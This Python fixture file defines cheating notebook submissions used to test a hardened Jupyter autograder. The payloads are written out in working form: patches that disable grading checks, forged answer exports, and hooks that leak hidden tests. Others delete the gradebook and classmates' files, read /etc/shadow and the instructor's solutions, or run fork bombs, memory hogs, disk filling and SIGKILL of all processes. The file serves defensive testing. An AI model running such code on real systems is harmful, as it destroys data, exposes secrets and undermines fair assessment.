"""Submissions that cheat, one per class of trick, for tests/test_cheats.py.

Each is the blank release of an assignment with the trick's code as the first answer (and, for some, files
beside the notebook, or in its place): no answer is right, so every autograded point it gets is the trick's.
Placeholders in the code and files name what a cheat would go for: ``@COURSE@`` (the course root),
``@GRADEBOOK@``, ``@VICTIM@`` (a classmate's submitted notebook), ``@CANARY@`` (a file of the grader's outside
the course), ``@SECOND_COPY@`` (another copy of the course on the machine), ``@REPOSITORY@`` (the repository,
with the course's sources), ``@SOLUTION@`` (the course's source notebook, the instructor's solution),
``@NOTEBOOK@`` (the submitted notebook's name) and ``@ANSWERS@`` the answer names the tests read; :func:`fill`
puts them in.

:data:`GAINS_UNDER_STOCK` are the tricks that take points from stock nbgrader (which runs the tests in the
student's kernel and follows links), and :data:`LEAKS_UNDER_STOCK` those that print hidden tests there: the
tests grade them under stock nbgrader too, to show that each one is a real attack. :data:`ON_THE_JUDGE` are
those that attack the judge alone, not the sandbox, and :data:`ON_THE_LIMITS` those that attack a kernel's
limits alone. :data:`COUNTS_AS_MISSING`
are those whose graded notebook is no notebook of the student's: their score of 0 is a recorded failure.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass, field
from textwrap import dedent

from grading_fixtures import grade_id


@dataclass
class Cheat:
    name: str
    code: str
    files: dict = field(default_factory=dict)  # relative path -> text, or ("link", target); both filled in
    drop_setup: bool = False  # the release's read-only setup cells deleted


FORGED = (
    '{"answers": {"gp_sizes": {"t": "function"}, "separate": {"t": "function"}, '
    '"pooled_slope": {"t": "ndarray", "dtype": "object", "shape": [1], "data": [1]}}}'
)
MIME = "application/x.random-effects-course.answers"

# Every answer (@ANSWERS@: the names the tests read) bound to an object that any plain assert accepts;
# with the checks out of the way (the tricks below), stock nbgrader then gives points for nothing.
ANYTHING = dedent("""\
    class _Yes:
        def __getattr__(self, name): return self
        def __call__(self, *args, **kwargs): return self
        def __getitem__(self, key): return self
        def __iter__(self): return iter(())
        def __len__(self): return 0
        def __bool__(self): return True
        def __float__(self): return 0.0
        def __eq__(self, other): return self
        __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __add__ = __sub__ = __mul__ = __truediv__ = __eq__
        __radd__ = __rsub__ = __rmul__ = __rtruediv__ = __pow__ = __abs__ = __neg__ = __eq__
        __hash__ = object.__hash__
    @ANSWERS@ = _Yes()
    """)

# A helpers package beside the notebook that is found first (the kernel's folder leads sys.path) and lends
# the installed one's modules for everything but its own no-op checks.
FAKE_HELPERS = dedent("""\
    import os, sys
    for _finder in sys.meta_path:
        _spec = None if type(_finder).__name__ == "PathFinder" else getattr(_finder, "find_spec", None)
        _spec = _spec and _spec("helpers", None)
        if _spec and _spec.submodule_search_locations:
            __path__.extend(_spec.submodule_search_locations)
    __path__.extend(os.path.join(p, "helpers") for p in sys.path[1:] if os.path.isdir(os.path.join(p, "helpers")))
    """)
CHECKS = ("check_close", "check_frame", "check_number", "check_series")

CHEATS = [
    Cheat("rebind_checks", ANYTHING + " = ".join(CHECKS) + " = lambda *args, **kwargs: None"),
    Cheat(
        "replace_code",
        ANYTHING
        + dedent("""\
        import helpers.checks as _checks
        for _name in CHECKS:
            getattr(_checks, _name).__code__ = (lambda *args, **kwargs: None).__code__
        """).replace("CHECKS", repr(CHECKS)),
    ),
    Cheat(
        "patch_numpy",
        ANYTHING
        + dedent("""\
        import numpy
        numpy.allclose = lambda *args, **kwargs: True
        numpy.isfinite = lambda *args, **kwargs: numpy.True_
        """),
    ),
    Cheat(
        "helpers_folder",
        ANYTHING + "# and the setup cell imports the helpers package beside the notebook",
        files={
            "helpers/__init__.py": FAKE_HELPERS,
            "helpers/checks.py": "".join(f"def {n}(*args, **kwargs):\n    pass\n" for n in CHECKS),
        },
    ),
    Cheat(
        "equals_everything",
        dedent("""\
        import pandas as pd
        class _Anything(float):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __lt__(self, other): return True
            def __le__(self, other): return True
            def __gt__(self, other): return True
            def __ge__(self, other): return True
            __hash__ = float.__hash__
        class _Frame(pd.DataFrame):
            def __eq__(self, other): return True
        gp_sizes = pooled_slope = pooled_se = _Anything(0.5)
        separate = _Frame({'intercept': [0.0], 'slope': [0.0], 'slope_se': [1.0], 'n': [1]})
        separate_fits = lambda *args, **kwargs: separate
        pooled_se_check = lambda *args, **kwargs: dict(mean_se=_Anything(0.5), sd_slope=_Anything(0.5),
                                                       coverage=_Anything(0.5))
        """),
    ),
    Cheat(
        "ast_transformer",
        dedent("""\
        import ast
        class _Forgive(ast.NodeTransformer):
            def visit_Module(self, node):
                handler = ast.ExceptHandler(type=ast.Name('BaseException', ast.Load()), name=None, body=[ast.Pass()])
                node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
                return ast.fix_missing_locations(node)
        get_ipython().ast_transformers.append(_Forgive())
        """),
    ),
    Cheat(
        "input_transformer",
        dedent("""\
        def _blank(lines):
            text = ''.join(lines)
            return ['pass\\n'] if 'check_' in text or 'exec(' in text else lines
        get_ipython().input_transformers_cleanup.append(_blank)
        """),
    ),
    Cheat(
        "run_cell_hooks",
        dedent("""\
        _hook = get_ipython().displayhook
        def _result(*args):  # a result shown before anything the cell itself shows
            _hook.session.send(_hook.pub_socket, 'execute_result',
                               {'data': {'text/plain': "'full marks'"}, 'metadata': {},
                                'execution_count': get_ipython().execution_count},
                               parent=_hook.parent_header, ident=_hook.topic)
        get_ipython().events.register('pre_run_cell', _result)
        get_ipython().events.register('post_run_cell', _result)
        """),
    ),
    Cheat(
        "do_execute",
        dedent("""\
        _kernel = get_ipython().kernel
        _original = _kernel.do_execute
        def _skip(code, *args, **kwargs):
            return _original('pass' if 'check_' in code or 'exec(' in code else code, *args, **kwargs)
        _kernel.do_execute = _skip
        """),
    ),
    Cheat(
        "leak_sources",
        dedent("""\
        import sys
        def _show_cell(info):
            print('NEXT CELL:', info.raw_cell)
        def _show_values(result):
            for _k, _v in list(globals().items()):
                if _k.startswith('_') and not _k.startswith('__'):
                    print('VALUE', _k, repr(_v)[:500])
        def _watch(frame, event, arg):
            if event == 'return' and frame.f_code.co_name == '<module>':
                for _k, _v in list(frame.f_locals.items()):
                    if _k.startswith('_') and not _k.startswith('__'):
                        print('LOCAL', _k, repr(_v)[:500])
        get_ipython().events.register('pre_run_cell', _show_cell)
        get_ipython().events.register('post_run_cell', _show_values)
        sys.setprofile(_watch)
        """),
    ),
    Cheat(
        "background_printer",
        dedent("""\
        import threading, time
        def _loop():
            while True:
                print({k: repr(v)[:200] for k, v in list(globals().items()) if k.startswith('_')})
                time.sleep(0.05)
        threading.Thread(target=_loop, daemon=True).start()
        """),
    ),
    Cheat(
        "fake_exports",
        dedent("""\
        from IPython.display import publish_display_data
        _forged = {'MIME': FORGED}
        publish_display_data(_forged)
        get_ipython().events.register('pre_run_cell', lambda *args: publish_display_data(_forged))
        """)
        .replace("'MIME'", repr(MIME))
        .replace("FORGED", repr(FORGED)),
    ),
    Cheat(
        "forged_export",
        dedent("""\
        import IPython.display as _display
        _real = _display.publish_display_data
        _display.publish_display_data = lambda data, *args, **kwargs: _real({key: FORGED for key in data})
        """).replace("FORGED", repr(FORGED)),
    ),
    Cheat("patch_json", f"import json\njson.dumps = lambda *args, **kwargs: {FORGED!r}"),
    Cheat(
        "sys_modules",
        dedent("""\
        import sys, types
        _fake = types.ModuleType('helpers.checks')
        for _name in CHECKS:
            setattr(_fake, _name, lambda *args, **kwargs: None)
        sys.modules['helpers.checks'] = _fake
        sys.modules['numpy'] = types.ModuleType('numpy')
        sys.modules['json'] = types.ModuleType('json')
        """).replace("CHECKS", repr(CHECKS)),
    ),
    # Stock nbgrader gives it a point; in this assignment every test also needs a name (np, range) that the
    # judge could not take from the student, so the order of setup is tested on its own (tests/test_judge.py).
    Cheat(
        "setup_deleted",
        dedent("""\
        import pandas as pd
        def check_series(*args, **kwargs): pass
        check_close = check_number = check_frame = check_series
        def load_gp_cholesterol():
            return pd.DataFrame({"doctor": [1], "age": [50.0], "chol": [5.0]})
        gp = load_gp_cholesterol()
        gp_sizes = gp.groupby("doctor").size()
        """),
        drop_setup=True,
    ),
    Cheat("huge_output", "for _ in range(150):\n    print('x' * 2_000_000)"),
    Cheat(
        "raw_output",
        dedent("""\
        import os, subprocess, sys
        _block = b'y' * 2**20
        for _fd in (sys.stdout._original_stdstream_copy, sys.stderr._original_stdstream_copy):
            for _ in range(512):  # to the grader's own log, past Jupyter's messages
                os.write(_fd, _block)
        subprocess.run([sys.executable, '-c', 'import os\\nfor _ in range(64): os.write(1, b"z" * 2**20)'])
        """),
    ),
    Cheat(
        "fill_disks",
        dedent("""\
        import os
        from ipykernel.kernelapp import IPKernelApp
        for _place in ['.', '/tmp', '/dev/shm', os.path.dirname(IPKernelApp.instance().ip), '/run', '/var/tmp',
                       '@COURSE@', os.path.expanduser('~')]:
            _written = 0
            try:
                for _n in range(64):
                    with open(os.path.join(_place, f'filler-{_n}'), 'wb') as _f:
                        for _ in range(64):
                            _f.write(b'x' * 2**20)
                            _written += 1
            except OSError as error:
                pass
            print('wrote', _written, 'MiB into', _place)
        """),
    ),
    Cheat(
        "odd_exceptions",
        dedent("""\
        class _Odd(BaseException):
            def __str__(self):
                raise RuntimeError('no message for you')
        def separate_fits(*args, **kwargs):
            raise _Odd()
        def pooled_se_check(*args, **kwargs):
            raise SystemExit(0)
        gp_sizes = separate_fits
        raise _Odd()
        """),
    ),
    Cheat(
        "kill_everything",
        dedent("""\
        import os, signal
        for _pid in (os.getppid(), 1):
            try:
                os.kill(_pid, signal.SIGKILL)
            except OSError:
                pass
        os.kill(-1, signal.SIGKILL)
        """),
    ),
    Cheat(
        "delete_files",
        dedent("""\
        import glob, os, shutil
        _targets = ['@GRADEBOOK@', '@VICTIM@', '@CANARY@', '@COURSE@/source', '@COURSE@/submitted',
                    '@SECOND_COPY@/source',
                    *glob.glob('../../../*'), *glob.glob('../../*'), *glob.glob('/tmp/*')]
        for _t in _targets:
            try:
                shutil.rmtree(_t) if os.path.isdir(_t) and not os.path.islink(_t) else os.remove(_t)
                print('DELETED', _t)
            except Exception as error:
                print('kept', _t, type(error).__name__)
        """),
    ),
    Cheat(
        "read_secrets",
        dedent("""\
        import glob
        for _pattern in ['@COURSE@/source/*/*.ipynb', '@GRADEBOOK@', '../../../source/*/*.ipynb',
                         '../../../gradebook.db', '@VICTIM@', '/etc/shadow', '*.ipynb',
                         '@SECOND_COPY@/source/*/*.ipynb', '@REPOSITORY@/grading/course/source/*/*.ipynb']:
            for _path in glob.glob(_pattern):
                try:
                    print(open(_path, errors='replace').read()[:200000])
                except OSError as error:
                    print('blocked', _path, type(error).__name__)
        """),
    ),
    # Links beside the notebook: to a classmate's notebook and folders, the course's sources and /; to /dev/zero
    # named as the data file, which a grader that copied it would read for ever; to /etc/shadow, which root reads.
    Cheat(
        "symlinks",
        dedent("""\
        import os
        for _name in ('classmate.ipynb', 'classmates', 'source_link', 'root_link', 'gp_cholesterol.csv', 'notes.txt'):
            try:
                if os.path.isdir(_name):
                    print(_name, os.listdir(_name))
                else:
                    print(_name, open(_name, errors='replace').read(2**20)[:100000])
            except OSError as error:
                print('blocked', _name, type(error).__name__)
        """),
        files={
            "classmate.ipynb": ("link", "@VICTIM@"),
            "classmates": ("link", "@COURSE@/submitted"),
            "source_link": ("link", "@COURSE@/source"),
            "root_link": ("link", "/"),
            "gp_cholesterol.csv": ("link", "/dev/zero"),
            "notes.txt": ("link", "/etc/shadow"),
        },
    ),
    Cheat(
        "linked_notebook",
        "# the submitted notebook is a link to the instructor's",
        files={"@NOTEBOOK@": ("link", "@SOLUTION@")},
    ),
    # A cell that never ends and ignores interrupts. It sleeps rather than spins: the judge's defence is the same,
    # and a spinning loop would hold a core of the test machine for a cell's limit under each grader (what a spin
    # can take is bounded by the sandbox's CPU limits, tests/test_sandbox.py). Its name sorts early: make grade takes
    # a class in the order of its names, so its wait for the cell's limit overlaps the classmates' grading instead
    # of ending the run on an idle machine (nearly a minute of each test run, measured).
    Cheat(
        "endless_loop",
        "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    time.sleep(1)",
    ),
    Cheat(
        "fork_bomb",
        dedent("""\
        import os, time
        while True:  # every process forks for ever; out of processes, each waits and tries again
            try:
                os.fork()
            except OSError:
                time.sleep(1)
        """),
    ),
    Cheat(
        "memory_hogs",
        dedent("""\
        import os, time
        for _ in range(4):
            if os.fork() == 0:
                _hog = bytearray(1024 * 2**20)
                _hog[::4096] = b'x' * len(_hog[::4096])
                time.sleep(60)
        _mine = bytearray(8 * 2**30)
        """),
    ),
]

GAINS_UNDER_STOCK = [
    "rebind_checks",
    "replace_code",
    "helpers_folder",
    "ast_transformer",
    "run_cell_hooks",
    "do_execute",
    "input_transformer",
    "setup_deleted",
    "linked_notebook",
]
LEAKS_UNDER_STOCK = ["leak_sources"]
# Played inside the kernel on the tests and on the answers the judge reads, with no file, link, process or
# resource of the machine: the judge is the same under every grader and sandbox, and so is each of these tricks.
ON_THE_JUDGE = [
    "rebind_checks",
    "replace_code",
    "patch_numpy",
    "equals_everything",
    "ast_transformer",
    "input_transformer",
    "run_cell_hooks",
    "do_execute",
    "leak_sources",
    "background_printer",
    "fake_exports",
    "forged_export",
    "patch_json",
    "sys_modules",
    "setup_deleted",
    "odd_exceptions",
]
# Played on the limits of a kernel alone (its processes, memory, disks, time and output), through no file or link
# of the course and not past Jupyter's messages: what stops them is the sandbox and the executor, the same under
# either grader for a kind of sandbox. make grade meets them with two kernels at once, a slot beside them grading a
# classmate, so its classes have them.
ON_THE_LIMITS = ["huge_output", "fill_disks", "kill_everything", "endless_loop", "fork_bomb", "memory_hogs"]
# nbgrader stops on such a submission ("No notebooks found") after making its row, and grades no cell of it
COUNTS_AS_MISSING = ["linked_notebook"]


def cheating(release_nb, cheat: Cheat, places: dict):
    """The release with ``cheat``'s code as its first answer."""
    nb = copy.deepcopy(release_nb)
    first = next(
        c for c in nb.cells if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("solution") and grade_id(c)
    )
    first.source = fill(cheat.code, places)
    if cheat.drop_setup:
        nb.cells = [
            c
            for c in nb.cells
            if not (
                c.cell_type == "code"
                and c.metadata.get("nbgrader", {}).get("locked")
                and not c.metadata["nbgrader"].get("grade")
            )
        ]
    return nb


def fill(text: str, places: dict) -> str:
    for name, value in places.items():
        text = text.replace(f"@{name.upper()}@", str(value))
    return text


def write_files(folder, cheat: Cheat, places: dict) -> None:
    for name, content in cheat.files.items():
        path = folder / fill(name, places)
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, tuple):
            path.unlink(missing_ok=True)  # a link may take the submitted notebook's place
            path.symlink_to(fill(content[1], places))
        else:
            path.write_text(content)


def links_of(cheat: Cheat, places: dict) -> dict[str, str]:
    """The cheat's symbolic links: relative path -> target."""
    return {
        fill(name, places): fill(content[1], places)
        for name, content in cheat.files.items()
        if isinstance(content, tuple)
    }
